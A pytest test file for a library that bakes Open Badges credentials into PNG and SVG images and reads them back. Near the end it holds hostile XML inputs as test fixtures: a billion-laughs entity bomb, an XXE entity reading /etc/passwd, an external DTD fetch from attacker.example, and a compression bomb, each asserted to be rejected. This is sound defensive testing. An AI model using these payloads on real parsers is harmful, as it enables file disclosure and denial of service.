"""Baking credentials into PNG and SVG images, and reading them back (Open Badges 3.0 / 2.0)."""

from __future__ import annotations

import base64
import json
import struct
import zlib

import pytest
from conftest import ROOT

from microcred.badges import bake
from microcred.badges.bake import BakeError, bake_png, bake_svg, extract_png, extract_svg

VECTORS = ROOT / "tests" / "vectors" / "openbadges"
DCV = VECTORS / "dcv-ob30"
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL2V4YW1wbGUuZWR1In0.c2lnbmF0dXJl"
CREDENTIAL = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "id": "urn:uuid:1",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "Données & «stats» ]]> <tag>",
    },
    ensure_ascii=False,
)


def chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data) & 0xFFFFFFFF)


def tiny_png(*extra: bytes) -> bytes:
    """A valid 1×1 RGB PNG, with ``extra`` chunks before IDAT."""
    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    idat = chunk(b"IDAT", zlib.compress(b"\x00\xff\x80\x00"))
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"".join(extra) + idat + chunk(b"IEND", b"")


def chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out, pos = [], 8
    while pos < len(png):
        (n,) = struct.unpack(">I", png[pos : pos + 4])
        out.append((png[pos + 4 : pos + 8], png[pos + 8 : pos + 8 + n]))
        pos += 12 + n
    return out


def vector(name: str) -> bytes:
    return (DCV / name).read_bytes()


def b64json(part: str) -> dict[str, object]:
    data: dict[str, object] = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    return data


# -- the official vectors -------------------------------------------------------------------


@pytest.mark.parametrize("name", ["simple-jwt.png", "simple-jwt.svg"])
def test_official_jwt_vectors_extract(name: str) -> None:
    data = vector(name)
    if name.endswith(".png"):
        found = extract_png(data)
        assert found is not None
        keyword, text = found
        assert keyword == "openbadgecredential"
    else:
        found_svg = extract_svg(data)
        assert found_svg is not None
        text = found_svg
    header, payload, signature = text.split(".")
    assert b64json(header)["alg"] == "RS256"
    assert "OpenBadgeCredential" in b64json(payload)["type"]  # type: ignore[operator]
    assert signature


@pytest.mark.parametrize("name", ["simple-json.png", "simple-json.svg"])
def test_official_json_vectors_extract(name: str) -> None:
    data = vector(name)
    if name.endswith(".png"):
        found = extract_png(data)
        assert found is not None and found[0] == "openbadgecredential"
        text = found[1]
    else:
        found_svg = extract_svg(data)
        assert found_svg is not None
        text = found_svg
    credential = json.loads(text)
    assert credential["id"] == "http://example.com/credentials/3527"
    assert credential["type"] == ["VerifiableCredential", "OpenBadgeCredential"]
    assert credential["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"


@pytest.mark.parametrize("name", ["simple-jwt.png", "simple-json.png", "simple-jwt.svg", "simple-json.svg"])
def test_official_vectors_are_not_baked_twice(name: str) -> None:
    data = vector(name)
    with pytest.raises(BakeError, match="already baked"):
        if name.endswith(".png"):
            bake_png(data, JWT)
        else:
            bake_svg(data, JWT)


def test_official_vector_unbaked_and_baked_again_round_trips() -> None:
    """Strip the credential chunk from a vector, bake ours in: the image is the vector's."""
    data = vector("simple-jwt.png")
    parts = chunks(data)
    plain = b"\x89PNG\r\n\x1a\n" + b"".join(chunk(t, d) for t, d in parts if t != b"iTXt")
    assert extract_png(plain) is None
    baked = bake_png(plain, JWT)
    assert extract_png(baked) == ("openbadgecredential", JWT)
    assert [t for t, _ in chunks(baked)] == [t for t, _ in parts]


def test_official_svg_vector_unbaked_and_baked_again_keeps_prolog() -> None:
    data = vector("simple-json.svg")
    start = data.index(b"<openbadges:credential>")
    end = data.index(b"</openbadges:credential>") + len(b"</openbadges:credential>")
    plain = data[:start] + data[end:]
    assert extract_svg(plain) is None
    baked = bake_svg(plain, CREDENTIAL)
    assert extract_svg(baked) == CREDENTIAL
    assert baked.startswith(data[: data.index(b"<svg")])  # XML declaration and DOCTYPE kept
    assert baked.endswith(data[end:])
    assert baked.count(b"xmlns:openbadges=") == 1  # the vector already declares it


# -- PNG ------------------------------------------------------------------------------------


def test_png_round_trip_and_chunk_layout() -> None:
    png = tiny_png(chunk(b"tEXt", b"Software\x00test"))
    baked = bake_png(png, CREDENTIAL)
    assert extract_png(baked) == ("openbadgecredential", CREDENTIAL)
    types = [t for t, _ in chunks(baked)]
    assert types == [b"IHDR", b"tEXt", b"IDAT", b"iTXt", b"IEND"]
    (itxt,) = [d for t, d in chunks(baked) if t == b"iTXt"]
    # keyword, NUL, compression flag 0, method 0, empty language tag, empty translated keyword
    assert itxt == b"openbadgecredential\x00\x00\x00\x00\x00" + CREDENTIAL.encode("utf-8")


def test_png_otherwise_byte_identical() -> None:
    png = tiny_png(chunk(b"tEXt", b"Comment\x00hello"))
    baked = bake_png(png, JWT)
    iend = len(png) - 12
    inserted = len(baked) - len(png)
    assert baked[:iend] == png[:iend]
    assert baked[iend + inserted :] == png[iend:]
    assert baked[iend : iend + inserted] == chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWT.encode())


def test_png_open_badges_2_keyword() -> None:
    baked = bake_png(tiny_png(), '{"id": "https://x.org/a/1"}', keyword="openbadges")
    assert extract_png(baked) == ("openbadges", '{"id": "https://x.org/a/1"}')


def test_png_refuses_to_bake_twice() -> None:
    once = bake_png(tiny_png(), JWT)
    with pytest.raises(BakeError, match="already baked"):
        bake_png(once, JWT)
    with pytest.raises(BakeError, match="already baked"):
        bake_png(once, "{}", keyword="openbadges")
    legacy = tiny_png(chunk(b"tEXt", b"openbadges\x00https://x.org/assertion/1"))
    with pytest.raises(BakeError, match="already baked"):
        bake_png(legacy, JWT)


def test_png_extracts_compressed_itxt_and_legacy_text() -> None:
    compressed = chunk(b"iTXt", b"openbadgecredential\x00\x01\x00en\x00\x00" + zlib.compress(JWT.encode()))
    assert extract_png(tiny_png(compressed)) == ("openbadgecredential", JWT)
    legacy = chunk(b"tEXt", b"openbadges\x00https://x.org/assertion/1")
    assert extract_png(tiny_png(legacy)) == ("openbadges", "https://x.org/assertion/1")
    # an OB 3.0 credential wins over a 2.0 one
    both = tiny_png(legacy, chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWT.encode()))
    assert extract_png(both) == ("openbadgecredential", JWT)


def test_png_without_credential_extracts_none() -> None:
    assert extract_png(tiny_png(chunk(b"tEXt", b"Comment\x00openbadges"))) is None


def test_png_compression_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bake, "MAX_TEXT_BYTES", 1000)
    bomb = chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(b"A" * 100_000))
    with pytest.raises(BakeError, match="inflates beyond"):
        extract_png(tiny_png(bomb))


@pytest.mark.parametrize("action", ["bake", "extract"])
def test_corrupt_png_bad_crc(action: str) -> None:
    png = bytearray(tiny_png())
    idat = png.index(b"IDAT")
    png[idat + 5] ^= 0xFF  # a data byte of IDAT: its CRC no longer matches
    with pytest.raises(BakeError, match="bad CRC in the IDAT chunk"):
        bake_png(bytes(png), JWT) if action == "bake" else extract_png(bytes(png))


@pytest.mark.parametrize("action", ["bake", "extract"])
@pytest.mark.parametrize("cut", [5, 20, 40])
def test_corrupt_png_truncated(action: str, cut: int) -> None:
    png = tiny_png()[:-cut]
    with pytest.raises(BakeError, match="truncated"):
        bake_png(png, JWT) if action == "bake" else extract_png(png)


@pytest.mark.parametrize("data", [b"GIF89a....", b"", b"\x89PNG\r\n\x1a", tiny_png()[1:]])
def test_not_a_png(data: bytes) -> None:
    with pytest.raises(BakeError, match="not a PNG"):
        extract_png(data)
    with pytest.raises(BakeError, match="not a PNG"):
        bake_png(data, JWT)


def test_png_first_chunk_must_be_ihdr() -> None:
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
    with pytest.raises(BakeError, match="first chunk is IDAT"):
        extract_png(png)


def test_png_refuses_empty_payload_and_bad_keyword() -> None:
    with pytest.raises(BakeError, match="nothing to bake"):
        bake_png(tiny_png(), "  ")
    with pytest.raises(BakeError, match="keyword"):
        bake_png(tiny_png(), JWT, keyword="x" * 80)


# -- SVG ------------------------------------------------------------------------------------

SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment with <svg> inside -->
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" data-x="a>b">
  <circle cx="5" cy="5" r="4"/>
</svg>
"""


def _start_tag_end(svg: bytes) -> int:
    return svg.index(b'data-x="a>b"') + len(b'data-x="a>b"')


def test_svg_json_round_trip_and_layout() -> None:
    baked = bake_svg(SVG, CREDENTIAL)
    assert extract_svg(baked) == CREDENTIAL
    text = baked.decode("utf-8")
    assert 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">\n<openbadges:credential><![CDATA[' in text
    # the rest of the SVG is unchanged
    i = _start_tag_end(SVG)
    assert baked.startswith(SVG[:i])
    assert baked.endswith(SVG[i + 1 :])


def test_svg_jwt_goes_in_the_verify_attribute() -> None:
    baked = bake_svg(SVG, JWT)
    assert f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode() in baked
    assert extract_svg(baked) == JWT


def test_svg_open_badges_2() -> None:
    assertion = json.dumps({"id": "https://x.org/assertions/1?a=1&b=2", "type": "Assertion"})
    baked = bake_svg(SVG, assertion, version=2)
    assert b'xmlns:openbadges="http://openbadges.org"' in baked
    assert b'<openbadges:assertion verify="https://x.org/assertions/1?a=1&amp;b=2"><![CDATA[' in baked
    assert extract_svg(baked) == assertion
    signed = bake_svg(SVG, JWT, version=2)
    assert f'<openbadges:assertion verify="{JWT}"/>'.encode() in signed
    assert extract_svg(signed) == JWT
    with pytest.raises(BakeError, match="needs an `id`"):
        bake_svg(SVG, '{"type": "Assertion"}', version=2)


def test_svg_self_closing_root_and_existing_declaration() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"/>'
    baked = bake_svg(svg, JWT)
    assert baked.count(b"xmlns:openbadges") == 1
    assert baked.endswith(b"</openbadges:credential>\n</svg>")
    assert extract_svg(baked) == JWT


def test_svg_refuses_to_bake_twice() -> None:
    once = bake_svg(SVG, CREDENTIAL)
    with pytest.raises(BakeError, match="already baked"):
        bake_svg(once, JWT)
    with pytest.raises(BakeError, match="already baked"):
        bake_svg(bake_svg(SVG, JWT, version=2), JWT)


def test_svg_prefix_bound_elsewhere_is_refused() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"/>'
    with pytest.raises(BakeError, match="binds the prefix openbadges"):
        bake_svg(svg, JWT)


def test_svg_latin1_encoding_kept() -> None:
    svg = '<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"><title>café</title></svg>'
    data = svg.encode("latin-1")
    baked = bake_svg(data, JWT)
    assert b"caf\xe9" in baked
    assert extract_svg(baked) == JWT


def test_svg_payload_must_be_json_or_jwt() -> None:
    with pytest.raises(BakeError, match="neither JSON nor a compact JWS"):
        bake_svg(SVG, "hello world")
    with pytest.raises(BakeError, match="does not parse"):
        bake_svg(SVG, "{not json")
    with pytest.raises(BakeError, match="version 4"):
        bake_svg(SVG, JWT, version=4)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>
"""
EXTERNAL_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>
"""
INTERNAL_SUBSET = b"""<!DOCTYPE svg [<!ELEMENT svg ANY>]><svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "declares the entity 'lol'.*billion laughs"),
        (EXTERNAL_ENTITY, "external entity 'secret'"),
        (EXTERNAL_PARAMETER, "external entity 'remote'"),
        (INTERNAL_SUBSET, "internal subset"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "not a well-formed SVG: mismatched tag"),
        (b"", "not a well-formed SVG"),
        (b"<svg", "not a well-formed SVG"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "root element is <html>"),
    ],
)
def test_unsafe_or_malformed_svg(data: bytes, reason: str) -> None:
    with pytest.raises(BakeError, match=reason):
        extract_svg(data)
    with pytest.raises(BakeError, match=reason):
        bake_svg(data, JWT)


def test_svg_without_credential_extracts_none() -> None:
    assert extract_svg(SVG) is None


def test_svg_empty_credential_element_is_an_error() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
    svg += b"<openbadges:credential/></svg>"
    with pytest.raises(BakeError, match="holds no credential"):
        extract_svg(svg)
